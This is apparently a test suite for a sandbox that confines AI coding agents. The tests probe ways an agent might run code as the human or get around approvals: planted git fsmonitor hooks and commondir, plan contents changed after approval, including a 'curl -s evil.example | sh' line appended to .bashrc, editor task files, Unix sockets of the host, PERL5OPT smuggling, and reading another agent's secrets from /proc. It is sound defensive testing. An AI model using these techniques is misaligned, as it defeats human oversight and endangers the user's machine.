  return (await pollUntil(() => Promise.resolve(residents(k)), (r) => r.length === 1))[0];
}

hostTest(
  "consecutive sandboxed execs enter one resident sandbox instead of building one each",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const namespaces = new Set<string>();
      for (let i = 0; i < 4; i++) {
        const r = await run(
          agent,
          `python3 -c "import os; print(os.readlink('/proc/self/ns/pid')); print(open('/proc/1/cmdline').read().replace(chr(0), ' ')[:500])"`,
        );
        assert.equal(r.ok, true, text(r.err));
        const [ns, init] = text(r.out).split("\n");
        namespaces.add(ns);
        assert.ok(
          isBwrapCommand(init),
          "the sandbox's init is bwrap's, as in a sandbox of its own",
        );
      }
      assert.equal(namespaces.size, 1, "every exec ran in the same PID namespace");
      await soleResident(w.k);
    });
  },
);

hostTest(
  "no process of a resident sandbox or of its warm shell outlives the kernel",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      await run(agent, "true");
      const warm = await nextWarm(w.k, true);
      // bwrap, its init, its launcher and the launcher's spare; the warm shell's bash
      const inside = await pollUntil(
        async () => [...withDescendants(await soleResident(w.k)), ...groupMembers(warm)],
        (pids) => pids.length >= 5,
      );
      assert.equal(await w.k.stop(), 0);
      assert.ok(await waitUntil(() => inside.every((pid) => !processLive(pid)), 10000));
    });
  },
);

hostTest(
  "a resident sandbox goes with its session, and with its last run when the view changes",
  NEEDS_TIER_B,
  async () => {
    const wider = { ...CODER, fs: { ...CODER.fs, write: [...CODER.fs.write, "~/later/**"] } };
    await world({ "agent:l": wider }, async (w) => {
      // the view changes under the agent: ~/later, granted, appears
      const agent = await w.agent("agent:l");
      await run(agent, "true");
      const before = withDescendants(await soleResident(w.k));
      await Deno.mkdir(`${w.home}/later`);
      const l = await run(agent, `echo z > ${w.home}/later/f`);
      assert.equal(l.ok, true, text(l.err));
      const after = await soleResident(w.k);
      assert.ok(!before.includes(after), "the changed view has a resident of its own");
      assert.ok(await waitUntil(() => before.every((pid) => !processLive(pid)), 10000));

      // a session of its own, then reclaimed: the quota of 64 sessions pushes it out
      const human = await w.k.attach("solo");
      await exec(human, `cd ${w.proj}`);
      human.close();
      const solo = await w.k.attach("solo", w.tokens["agent:l"]);
      await run(solo, "true");
      solo.close();
      const inside = await pollUntil(
        () => Promise.resolve(residents(w.k).flatMap(withDescendants)),
        (pids) => pids.length >= 6,
      );
      const filler = await w.k.attach("filler-0");
      for (let i = 1; i < 63; i++) {
        await filler.request("session.attach", { session: `filler-${i}` });
      }
      assert.ok(
        await waitUntil(() => residents(w.k).length === 1, 10000),
        "solo's resident is gone",
      );
      // killed with the resident: they exit as the kernel reaps them, moments after it goes
      const gone = () => inside.filter((pid) => !processLive(pid));
      assert.ok(
        await waitUntil(() => gone().length >= 3, 10000),
        `bwrap, its init and its bash are gone: ${gone()}`,
      );
    });
  },
);

hostTest(
  "a resident sandbox that dies is started afresh; the runs in it end with it",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const { task, members } = await startTask(agent, "sleep 300", 2);
      const resident = await soleResident(w.k);
      Deno.kill(resident, "SIGKILL");
      assert.ok(await waitUntil(() => members.every((pid) => !processLive(pid)), 10000));
      const state = async () => (await agent.request("task.get", { task }) as Rec).state;
      assert.ok(await waitUntil(async () => await state() !== "running", 10000));
      const r = await run(agent, "echo again > again; echo ok");
      assert.equal(text(r.out), "ok\n", text(r.err));
      assert.equal(await Deno.readTextFile(`${w.proj}/again`), "again\n");
      assert.notEqual(await soleResident(w.k), resident);
    });
  },
);

hostTest("no process of a resident sandbox outlives a killed kernel", NEEDS_TIER_B, async () => {
  await world({ "agent:c": CODER }, async (w) => {
    const agent = await w.agent("agent:c");
    const { members } = await startTask(agent, "sleep 300", 2);
    const inside = [...withDescendants(await soleResident(w.k)), ...members];
    Deno.kill(w.k.child.pid, "SIGKILL");
    assert.ok(await waitUntil(() => inside.every((pid) => !processLive(pid)), 10000));
  });
});

hostTest(
  "what a sandboxed exec leaves behind ends with it, even a process in a session of its own",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const marks = [`sleep 31${Deno.pid % 100}1`, `sleep 31${Deno.pid % 100}2`];
      const r = await exec(agent, `${marks[0]} & setsid ${marks[1]} & sleep 3`, { async: true });
      const seen = () => marks.map((m) => pidsMentioning(m).filter(processLive).length);
      assert.ok(await waitUntil(() => seen().every((n) => n > 0), 10000), "both started");
      const state = async () => (await agent.request("task.get", { task: r.task }) as Rec).state;
      assert.ok(await waitUntil(async () => await state() === "completed", 15000));
      assert.ok(await waitUntil(() => seen().every((n) => n === 0), 10000), `left: ${seen()}`);

      const mark = `sleep 31${Deno.pid % 100}3`;
      const t = await exec(agent, `setsid ${mark} & sleep 300`, { async: true });
      assert.ok(await waitUntil(() => pidsMentioning(mark).some(processLive), 10000));
      await agent.request("task.cancel", { task: t.task });
      assert.ok(await waitUntil(() => !pidsMentioning(mark).some(processLive), 10000));
    });
  },
);

hostTest(
  "another exec ending in the resident spares a running task's escaped processes; they end with the task",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      // a double-forked job in a group of its own (same session) and one in a session of its own
      const marks = [`sleep 32${Deno.pid % 100}1`, `sleep 32${Deno.pid % 100}2`];
      const src = `(set -m; ${marks[0]} &); setsid ${marks[1]} & ` +
        `until [ -e stop ]; do sleep 0.05; done`;
      const t = await exec(agent, src, { async: true });
      const live = () => marks.map((m) => pidsMentioning(m).filter(processLive).length);
      assert.ok(await waitUntil(() => live().every((n) => n > 0), 10000), "both started");
      for (let i = 0; i < 3; i++) assert.equal(text((await run(agent, "echo hi")).out), "hi\n");
      await new Promise((resolve) => setTimeout(resolve, 300)); // any sweep after them is done
      assert.deepEqual(live(), [1, 1], "the task's processes outlive another exec");
      await Deno.writeTextFile(`${w.proj}/stop`, "");
      const state = async () => (await agent.request("task.get", { task: t.task }) as Rec).state;
      assert.ok(await waitUntil(async () => await state() === "completed", 15000));
      assert.ok(await waitUntil(() => live().every((n) => n === 0), 10000), `left: ${live()}`);
    });
  },
);

hostTest(
  "P-SBX-6: git remote add asks approval for the protected .git/config (not an EBUSY in the sandbox), and the approved plan writes it",
  NEEDS_TIER_B,
  () =>
    world({ "agent:coder": { ...CODER, approve_in_client: true } }, async ({ k, proj, agent }) => {
      const human = await k.attach("work");
      await run(human, "git init -q");
      const coder = await agent("agent:coder");
      const url = "https://example.com/r.git";
      const asked = await rpcError(exec(coder, `git remote add origin ${url}`));
      assert.equal(asked.code, -32011, JSON.stringify(asked.data));
      const data = asked.data as Rec;
      assert.deepEqual((data.effects as Rec[])[0], {
        kind: "fs_write",
        paths: [`${proj}/.git/config`],
      });
      await coder.request("plan.approve", { plan_ref: data.plan_ref, via: "client" });
      const applied = await coder.request("plan.apply", {
        plan_ref: data.plan_ref,
        position: "value",
      }) as Rec;
      assert.equal((applied.value as Rec).ok, true, JSON.stringify(applied.value));
      assert.equal(text((await run(human, "git remote get-url origin")).out), `${url}\n`);
    }),
);

/** Runs `git status` in `dir` as the local human in a terminal would, unconfined. */
async function humanGitStatus(dir: string): Promise<void> {
  await new Deno.Command("git", { args: ["status"], cwd: dir, stdout: "null", stderr: "null" })
    .output();
}

Deno.test({
  name:
    "P-SBX-6 a git repository an exec creates carries no code that the human's git status then runs (git init at the root; a nested repository added as a gitlink) [ignored: defect found by the probe round; needs a SPEC decision: P-SBX-6 lets an exec create .git/config and .git/hooks, protected only from the next exec on, so their first content is the agent's]",
  ignore: true,
  fn: async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const marker = `${w.box.dir}/ran-as-human`;
      // A project without a repository: the root's .git is no protected name until it exists.
      const root = await run(
        agent,
        `git init -q && git config core.fsmonitor 'touch ${marker}; false'`,
      );
      assert.equal(root.ok, true, text(root.err));
      await humanGitStatus(w.proj);
      assert.equal(exists(marker), false, "the agent's core.fsmonitor ran as the human");
    });
    await world({ "agent:c": CODER }, async (w) => {
      const marker = `${w.box.dir}/ran-as-human`;
      const ident = "GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a " +
        "GIT_COMMITTER_EMAIL=a@x";
      await new Deno.Command("git", { args: ["init", "-q"], cwd: w.proj }).output();
      const agent = await w.agent("agent:c");
      // The root's .git/config is read-only now; a repository made below it is not, and git
      // status at the root runs git status in it. (Through sh: the static layer would ask
      // approval for the protected name sub/.git/config.)
      const nested = await run(
        agent,
        `sh -c "git init -q sub && git -C sub config core.fsmonitor 'touch ${marker}; false' && ` +
          `${ident} git -C sub commit -q --allow-empty -m x && git add sub"`,
      );
      assert.equal(nested.ok, true, text(nested.err));
      await Deno.remove(marker).catch(() => {});
      await humanGitStatus(w.proj);
      assert.equal(exists(marker), false, "a nested repository's core.fsmonitor ran as the human");
    });
  },
});

hostTest(
  "P-SBX-6 the root repository's read-only .git/config and .git/hooks cannot be bypassed by a .git/commondir naming a directory of the agent's",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const marker = `${w.box.dir}/ran-as-human`;
      await hostGit(w.proj, "init", "-q");
      await hostGit(w.proj, "commit", "-q", "--allow-empty", "-m", "x");
      const agent = await w.agent("agent:c");
      const planted = await run(
        agent,
        `sh -c "cp -r .git evil && git config -f evil/config core.fsmonitor 'touch ${marker}; false'` +
          ` && echo ../evil > .git/commondir"`,
      );
      await humanGitStatus(w.proj);
      assert.equal(
        exists(marker),
        false,
        `the agent's commondir made the human's git status run its code (exec ok: ${planted.ok})`,
      );
    });
  },
);

Deno.test({
  name:
    "K-PLAN-3 an approved plan that copies a project file into a protected name writes what the human approved, not what the agent put in that file afterwards (re-applied later, or changed between approval and apply) [ignored: defect found by the probe round; needs a SPEC decision: a plan binds src and effects, not the content of the files it reads, and an approval stays valid for repeated applies, so one approved `cp tasks.src .vscode/tasks.json` lets the agent write any .vscode/tasks.json (a task run on folder open runs as the human in VS Code) as often as it likes]",
  ignore: true,
  fn: async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const reviewed = '{"version": "2.0.0", "tasks": []}\n';
      await Deno.writeTextFile(`${w.proj}/tasks.src`, reviewed);
      const asked = await rpcError(
        exec(agent, "mkdir -p .vscode && cp tasks.src .vscode/tasks.json"),
      );
      assert.equal(asked.code, -32011, JSON.stringify(asked.data));
      const planRef = (asked.data as Rec).plan_ref as string;
      const human = await w.k.attach("work");
      await human.request("approval.grant", { plan_ref: planRef });
      // after the human looked at tasks.src and approved, the agent changes it
      await run(
        agent,
        `python3 -c "open('tasks.src', 'w').write('{\\"tasks\\": [{\\"runOptions\\": {\\"runOn\\": \\"folderOpen\\"}}]}')"`,
      );
      const applied = await agent.request("plan.apply", { plan_ref: planRef, position: "value" })
        .then(() => null, (e) => e);
      const written = exists(`${w.proj}/.vscode/tasks.json`)
        ? await Deno.readTextFile(`${w.proj}/.vscode/tasks.json`)
        : null;
      assert.ok(
        applied !== null || written === reviewed,
        `the approved plan wrote what the human never saw: ${written}`,
      );
    });
  },
});

Deno.test({
  name:
    'K-PLAN-3 an approved plan writes into a protected name what the human was shown, not a session variable\'s value the agent sets after approval [ignored: defect found by the probe round; needs a SPEC decision: a plan binds src and effects, not the values of the variables its source expands, so an approved `echo "$NOTE" >> .bashrc` (empty NOTE when approved) appends whatever the agent puts in NOTE before apply, and again at every apply]',
  ignore: true,
  fn: async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      await Deno.writeTextFile(`${w.proj}/.bashrc`, "");
      const asked = await rpcError(exec(agent, 'echo "# reviewed$NOTE" >> .bashrc'));
      assert.equal(asked.code, -32011, JSON.stringify(asked.data));
      const planRef = (asked.data as Rec).plan_ref as string;
      const human = await w.k.attach("work");
      await human.request("approval.grant", { plan_ref: planRef });
      await run(agent, "NOTE=$'\\ncurl -s evil.example | sh'");
      const applied = await agent.request("plan.apply", { plan_ref: planRef, position: "value" })
        .then(() => null, (e) => e);
      const written = await Deno.readTextFile(`${w.proj}/.bashrc`);
      assert.ok(
        applied !== null || written === "# reviewed\n",
        `the approved plan wrote what the human never saw: ${JSON.stringify(written)}`,
      );
    });
  },
});

Deno.test({
  name:
    "P-SBX-6 .ripgreprc in a write root is read-only like .bashrc (sandbox-runtime protects it: ripgrep runs a --pre program its config names, as the human, where RIPGREP_CONFIG_PATH points at it)",
  fn: async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const r = await run(agent, `python3 -c "open('.ripgreprc', 'w').write('--pre=./x')"`);
      assert.equal(r.ok, false, "the agent wrote .ripgreprc");
      // while a sandbox is up an empty placeholder directory may stand there, never a file
      const path = `${w.proj}/.ripgreprc`;
      assert.equal(exists(path) && Deno.lstatSync(path).isFile, false);
    });
  },
});

Deno.test({
  name:
    "P-SBX-6 mise's project config (mise.toml, .mise.toml, .config/mise.toml) is read-only like .envrc: once the human has trusted it, mise runs its [env] _.source scripts and [hooks] as the human when their shell enters the project [ignored: defect found by the probe round; needs a SPEC decision: the PROTECTED list of P-SBX-6 names .envrc (direnv, which re-asks on every change) but not mise's files, whose trust is by path unless mise runs in paranoid mode, and which `mise install` or `mise run` trust by themselves]",
  ignore: true,
  fn: async () => {
    await world({ "agent:c": CODER }, async (w) => {
      await Deno.writeTextFile(`${w.proj}/mise.toml`, '[tools]\nnode = "22"\n');
      const agent = await w.agent("agent:c");
      await run(
        agent,
        "(echo '[hooks]' >> mise.toml; echo 'enter = \"touch ran\"' >> mise.toml) 2>/dev/null",
      );
      await run(agent, "(mkdir -p .config && echo '[hooks]' > .config/mise.toml) 2>/dev/null");
      assert.equal(await Deno.readTextFile(`${w.proj}/mise.toml`), '[tools]\nnode = "22"\n');
      assert.equal(exists(`${w.proj}/.config/mise.toml`), false);
    });
  },
});

Deno.test({
  name:
    "P-SBX-6 .zed/ and .gemini/ are read-only like .vscode/ and .claude/: Zed runs the context servers and language servers a project's .zed/settings.json names, Gemini CLI the MCP servers of a project's .gemini/settings.json, as the human [ignored: defect found by the probe round; needs a SPEC decision: the PROTECTED list of P-SBX-6 (and sandbox-runtime's) names the directories of VS Code, JetBrains, Cursor and Claude Code but not those of other editors and agents that start programs from a project's settings once the human trusts the folder]",
  ignore: true,
  fn: async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      await run(
        agent,
        "(mkdir -p .zed .gemini && echo '{}' > .zed/settings.json && echo '{}' > .gemini/settings.json) 2>/dev/null",
      );
      assert.equal(exists(`${w.proj}/.zed/settings.json`), false);
      assert.equal(exists(`${w.proj}/.gemini/settings.json`), false);
    });
  },
});

Deno.test({
  name:
    "P-SBX-6 a VS Code workspace file in the project (proj.code-workspace) is read-only like .vscode/: its tasks (runOn folderOpen) and settings apply when the human opens it [ignored: defect found by the probe round; needs a SPEC decision: the PROTECTED list of P-SBX-6 holds names, and a workspace file has a name of the human's choosing with the .code-workspace suffix, where VS Code reads the same settings, tasks and launch configurations as in .vscode/]",
  ignore: true,
  fn: async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const original = '{ "folders": [{ "path": "." }] }\n';
      await Deno.writeTextFile(`${w.proj}/proj.code-workspace`, original);
      const agent = await w.agent("agent:c");
      await run(agent, "(echo '{}' > proj.code-workspace) 2>/dev/null");
      assert.equal(await Deno.readTextFile(`${w.proj}/proj.code-workspace`), original);
    });
  },
});

Deno.test({
  name:
    "P-SBX-6 .devcontainer.json at the project root is as protected as .devcontainer/ (VS Code's Dev Containers read both, and run initializeCommand on the host)",
  fn: async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const r = await run(
        agent,
        `python3 -c "open('.devcontainer.json', 'w').write('{\\"initializeCommand\\": \\"id\\"}')"`,
      );
      assert.equal(r.ok, false, "the agent wrote .devcontainer.json");
      // while a sandbox is up an empty placeholder directory may stand there, never a file
      const left = exists(`${w.proj}/.devcontainer.json`)
        ? Deno.lstatSync(`${w.proj}/.devcontainer.json`).isFile
        : false;
      assert.equal(left, false);
    });
  },
});

Deno.test({
  name:
    "K-TASK-2 a sandboxed agent cannot stop, resume or cancel the local human's tasks in their shared session: its signals would reach unconfined processes outside its sandbox (SIGSTOP to the human's build, editor or deploy) [ignored: defect found by the probe round; needs a SPEC decision: K-TASK-2 makes tasks visible and K-TASK-5/6 signalable to every connection of the session, while K-PTY-7 now limits an agent to its own PTYs]",
  ignore: true,
  fn: async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const human = await w.k.attach("work");
      const agent = await w.agent("agent:c");
      const task = (await exec(human, "sleep 30", { async: true })).task as string;
      try {
        const refused = await rpcError(agent.request("task.suspend", { task }));
        assert.ok([-32021, -32010].includes(refused.code), JSON.stringify(refused));
        assert.equal((await human.request("task.get", { task }) as Rec).state, "running");
      } finally {
        await human.request("task.cancel", { task });
      }
    });
  },
});

hostTest(
  "P-SBX-3 a Unix socket of the human's under a granted root (tmux's, ssh-agent's, docker's, VS Code's) does not let the agent run code outside its sandbox: its tmux client typed into the human's tmux shell, which ran unconfined",
  NEEDS_TIER_B,
  async () => {
    await world((box) => ({ "agent:t": dirAgent(box.dir) }), async (w) => {
      const socket = `${w.box.dir}/tmux.sock`;
      const marker = `${w.box.dir}/ran-where`;
      const tmux = (...args: string[]) =>
        new Deno.Command("tmux", { args: ["-S", socket, "-f", "/dev/null", ...args] }).output();
      assert.equal((await tmux("new-session", "-d", "-s", "h", "bash --norc")).code, 0);
      try {
        const agent = await w.agent("agent:t");
        const r = await run(
          agent,
          `tmux -S ${socket} send-keys -t h 'readlink /proc/self/ns/mnt > ${marker}' Enter`,
        );
        assert.equal(r.ok, false);
        assert.match(text(r.err), /Operation not permitted/);
        await waitUntil(() => exists(marker), 3000);
        const ran = exists(marker) ? (await Deno.readTextFile(marker)).trim() : null;
        assert.equal(ran, null, "the human's tmux ran the agent's keys");
      } finally {
        await tmux("kill-server");
      }
    });
  },
);

/** Sources that connect to the Unix socket `path`: python3's and perl's. */
function unixConnects(path: string): string[] {
  return [
    `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('${path}'); print('connected')"`,
    `perl -MSocket -e 'socket(my $s, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!\\n"; connect($s, pack_sockaddr_un("${path}")) or die "connect: $!\\n"; print "connected\\n"'`,
  ];
}

/** An agent that may read all of HOME and write its project: the sockets there are readable. */
const HOME_READER = {
  ...CODER,
  fs: { read: ["~/**"], write: ["~/proj/**"], delete: ["~/proj/**"] },
};

hostTest(
  "P-SBX-3 ssh-agent's and docker's sockets under a read grant of HOME: python3 and perl connects fail with EPERM on the warm shells they run on and in an approved plan's run, and the host side hears nothing; pipes and socketpairs still work",
  NEEDS_TIER_B,
  async () => {
    const asker = { ...HOME_READER, auto_apply: "never" };
    await world({ "agent:h": HOME_READER, "agent:p": asker }, async (w) => {
      const sockets = [`${w.home}/ssh-XXXXabcd/agent.1234`, `${w.home}/run/docker.sock`]
        .map((path) => ({ path, host: unixListener(path) }));
      try {
        const agent = await w.agent("agent:h");
        for (const { path, host } of sockets) {
          for (const src of unixConnects(path)) {
            const warm = await nextWarm(w.k, true);
            const r = await run(agent, src);
            assert.equal(r.pid, warm, "the exec ran on the warm shell");
            assert.equal(r.ok, false, text(r.out));
            assert.match(text(r.err), /Operation not permitted/);
          }
          assert.equal(host.accepted(), 0, `the host side at ${path} heard a connection`);
        }
        // a plan the human approved runs in the same sandbox, filter included
        const [python] = unixConnects(sockets[1].path);
        const p = await w.agent("agent:p");
        const asked = await rpcError(exec(p, python));
        assert.equal(asked.code, -32011);
        const planRef = (asked.data as Rec).plan_ref as string;
        await (await w.k.attach("work")).request("approval.grant", { plan_ref: planRef });
        const applied = await p.request("plan.apply", { plan_ref: planRef, position: "value" });
        const outcome = (applied as Rec).value as Rec;
        assert.equal(outcome.ok, false, text(outcome.out));
        assert.match(text(outcome.err), /Operation not permitted/);
        assert.equal(sockets[1].host.accepted(), 0, "the host side heard the plan's run");
        const pipes = await run(
          agent,
          `echo hi | cat; python3 -c "import socket; a, b = socket.socketpair(); a.send(b'x'); print(b.recv(1).decode())"`,
        );
        assert.equal(text(pipes.out), "hi\nx\n", text(pipes.err));
      } finally {
        for (const { host } of sockets) host.close();
      }
    });
  },
);

/**
 * A datagram Unix socket the host binds at `path` (as journald's `/dev/log` and systemd's notify
 * socket are): `heard()` closes it and gives every datagram it got.
 */
function unixDatagramHost(path: string): { heard: () => Promise<string[]> } {
  Deno.mkdirSync(path.slice(0, path.lastIndexOf("/")), { recursive: true });
  const child = new Deno.Command("python3", {
    args: [
      "-c",
      `import os, socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777)
print("ready", flush=True); sys.stdin.read(); s.setblocking(False)
while True:
    try: print(s.recv(200).decode(), flush=True)
    except BlockingIOError: break`,
      path,
    ],
    stdin: "piped",
    stdout: "piped",
  }).spawn();
  const lines = new Response(child.stdout).text();
  return {
    heard: async () => {
      await child.stdin.close();
      await child.status;
      return (await lines).split("\n").filter((l) => l !== "" && l !== "ready");
    },
  };
}

hostTest(
  "P-SBX-3 a datagram socketpair cannot reach a datagram Unix socket of the host's under a read grant (journald's /dev/log, systemd's notify socket): socketpair(AF_UNIX, SOCK_DGRAM or SOCK_RAW) fails with EPERM, so sendto(2) and connect(2) to its path hear nothing and no socket file can be bound in a write root",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:h": HOME_READER }, async (w) => {
      const path = `${w.home}/run/systemd/journal/dev-log`;
      const host = unixDatagramHost(path);
      const agent = await w.agent("agent:h");
      // through python: the sandbox is the wall under test, not the static layer
      await Deno.writeTextFile(
        `${w.proj}/dgram.py`,
        `import socket
for kind, name in ((socket.SOCK_DGRAM, "dgram"), (socket.SOCK_RAW, "raw")):
    try:
        a, b = socket.socketpair(socket.AF_UNIX, kind | socket.SOCK_CLOEXEC)
    except OSError as e:
        print(name, e.strerror); continue
    a.sendto(b"<13>sshd[1]: sent by " + name.encode(), ${JSON.stringify(path)})
    a.connect(${JSON.stringify(path)}); a.send(b"<13>sshd[1]: connected by " + name.encode())
    b.bind("planted-" + name)
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET); a.send(b"s"); print("seqpacket", b.recv(1).decode())
a, b = socket.socketpair(); a.send(b"x"); print("stream", b.recv(1).decode())
`,
      );
      const r = await run(agent, "python3 dgram.py");
      assert.equal(
        text(r.out),
        "dgram Operation not permitted\nraw Operation not permitted\nseqpacket s\nstream x\n",
        text(r.err),
      );
      assert.deepEqual(await host.heard(), [], "the host's datagram socket heard the agent");
      assert.ok(!exists(`${w.proj}/planted-dgram`) && !exists(`${w.proj}/planted-raw`));
    });
  },
);

hostTest(
  "P-SBX-3 bwrap's init (pid 1 inside), the sandbox's one process without the socket filter but the forwarder's relay, is out of the agent's reach: its memory cannot be written, nor can it be ptraced, read or its fds taken",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      // through python: the sandbox is the wall under test, not the static layer
      await Deno.writeTextFile(
        `${w.proj}/init.py`,
        `import ctypes, os, re
libc = ctypes.CDLL(None, use_errno=True)
init = open("/proc/1/cmdline", "rb").read().split(b"\\0")[0].decode()
# the host's bwrap, or the kernel's own copy of it (own_bwrap.ts)
print("bwrap" if init.endswith("/bwrap") or re.fullmatch(r"/proc/\\d+/fd/\\d+", init) else init)
for path in ("/proc/1/mem", "/proc/1/task/1/mem"):
    try:
        open(path, "r+b"); print(path, "writable")
    except OSError as e:
        print(path, "refused")
def call(name, f):
    ctypes.set_errno(0)
    print(name, "ok" if f() >= 0 else os.strerror(ctypes.get_errno()))
call("ptrace", lambda: libc.ptrace(16, 1, 0, 0))
call("process_vm_readv", lambda: libc.process_vm_readv(1, None, 0, None, 0, 0))
call("pidfd_open", lambda: libc.syscall(434, 1, 0))
`,
      );
      const r = await run(agent, "python3 init.py");
      assert.equal(
        text(r.out),
        "bwrap\n/proc/1/mem refused\n/proc/1/task/1/mem refused\n" +
          "ptrace Operation not permitted\nprocess_vm_readv Operation not permitted\n" +
          "pidfd_open Operation not permitted\n",
        text(r.err),
      );
    });
  },
);

hostTest(
  "P-SBX-3 a sandboxed PTY program cannot connect to a socket of the human's under a read grant either",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:h": HOME_READER }, async (w) => {
      const path = `${w.home}/.vscode-server/vscode-ipc-1.sock`;
      const host = unixListener(path);
      try {
        const agent = await w.agent("agent:h");
        const [python] = unixConnects(path);
        const opened = await agent.request("pty.open", {
          cmd: "bash",
          args: ["-c", `${python}; echo "done $?"; sleep 30`],
        }) as Rec;
        const screen = await screenWhenDone(agent, opened.pty_id);
        assert.match(screen.join(""), /Operation not permitted/);
        assert.ok(screen.some((row) => row.startsWith("done 1")), screen.join("\n"));
        assert.equal(host.accepted(), 0, "the host side heard a connection");
        await agent.request("pty.close", { pty_id: opened.pty_id });
      } finally {
        host.close();
      }
    });
  },
);

hostTest(
  "P-SBX-3 a pty.open env name holding '=' cannot smuggle a variable past the names held back from the sandbox's start: PERL5OPT=-I<proj> -MEvil loaded the agent's module into the perl that installs the socket filter, before it was in place, and it connected to the human's socket (found by probe18)",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:h": HOME_READER }, async (w) => {
      const path = `${w.home}/.vscode-server/vscode-ipc-1.sock`;
      const host = unixListener(path);
      try {
        const module = [
          "use Socket;",
          "socket(my $s, PF_UNIX, SOCK_STREAM, 0);",
          `print(connect($s, pack_sockaddr_un("${path}")) ? "EVIL connected\\n" : "");`,
          "1;",
        ].join(" ");
        await Deno.writeTextFile(`${w.proj}/Evil.pm`, module);
        const agent = await w.agent("agent:h");
        const e = await rpcError(agent.request("pty.open", {
          cmd: "sh",
          args: ["-c", 'echo "done $?"; sleep 30'],
          env: { [`PERL5OPT=-I${w.proj} -MEvil`]: "" },
        }));
        assert.equal(e.code, -32602, e.message);
        assert.equal(host.accepted(), 0, "the host side heard a connection");
      } finally {
        host.close();
      }
    });
  },
);

hostTest(
  "P-SBX-6 in a repository with per-worktree config (git sparse-checkout init turns it on), .git/config.worktree is as read-only as .git/config: a core.fsmonitor the agent put there ran at the human's git status",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const marker = `${w.box.dir}/ran-as-human`;
      const git = (...args: string[]) =>
        new Deno.Command("git", { args, cwd: w.proj, stdout: "null", stderr: "null" }).output();
      await git("init", "-q");
      await git(
        "-c",
        "user.name=a",
        "-c",
        "user.email=a@x",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "x",
      );
      assert.equal((await git("sparse-checkout", "init", "--cone")).code, 0);
      assert.ok(exists(`${w.proj}/.git/config.worktree`));
      const agent = await w.agent("agent:c");
      // through python: the sandbox is the wall under test, not the static layer
      const r = await run(
        agent,
        `python3 -c "open('.git/config.worktree', 'a').write('[core]\\\\n\\\\tfsmonitor = touch ${marker}; false\\\\n')"`,
      );
      assert.equal(r.ok, false, "the agent wrote .git/config.worktree");
      await humanGitStatus(w.proj);
      assert.equal(exists(marker), false, "the agent's core.fsmonitor ran as the human");
      // the static layer agrees: a write there asks approval
      const asked = await rpcError(exec(agent, "git config --worktree core.x y"));
      assert.equal(asked.code, -32011, JSON.stringify(asked.data));
    });
  },
);

hostTest(
  "P-SBX-7 one agent never reads another agent's own session variables (its AWS_* credentials) from its processes' /proc/PID/environ: two agents with the same grants in one session shared one sandbox and PID namespace",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:a": CODER, "agent:b": CODER }, async (w) => {
      const a = await w.agent("agent:a");
      const b = await w.agent("agent:b");
      await exec(b, "export AWS_SECRET_ACCESS_KEY=b-secret-123");
      const slow = exec(b, "sleep 5; echo b-done");
      // the static check refuses a literal /proc: the script goes through a file; it looks until
      // agent:b's sleep shows, or 5 s
      const script = "for i in $(seq 50); do n=$(cat /proc/[0-9]*/environ 2>/dev/null | " +
        'tr "\\0" "\\n" | grep -c b-secret-123); [ "$n" = 0 ] || break; sleep 0.1; done; echo "$n"';
      const seen = await run(a, `echo ${btoa(script)} | base64 -d > .p.sh; bash .p.sh`);
      await slow;
      assert.equal(
        String(text(seen.out)).trim(),
        "0",
        "agent:a read agent:b's own AWS_SECRET_ACCESS_KEY",
      );
    });
  },
);

hostTest(
  "K-BASH-6 a sandboxed exec that writes 300 MB into its own state dump FIFO ends with its state unchanged, and the kernel does not keep what it wrote (1000 MB took it past 6 GB)",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const peak = () => {
        const status = Deno.readTextFileSync(`/proc/${w.k.child.pid}/status`);
        return Number(/VmHWM:\s+(\d+) kB/.exec(status)![1]) * 1024;
      };
      const before = peak();
      const outcome = await run(
        agent,
        'export KEPT=no; head -c 300M /dev/zero > "$__shoal_dir/state"; echo "head=$?"',
      );
      assert.equal(text(outcome.out), "head=0\n");
      const grown = peak() - before;
      assert.ok(grown < 150 * 1024 * 1024, `the kernel grew by ${grown} bytes`);
      assert.equal(text((await run(agent, 'echo "${KEPT-unset}"')).out), "unset\n");
    });
  },
);
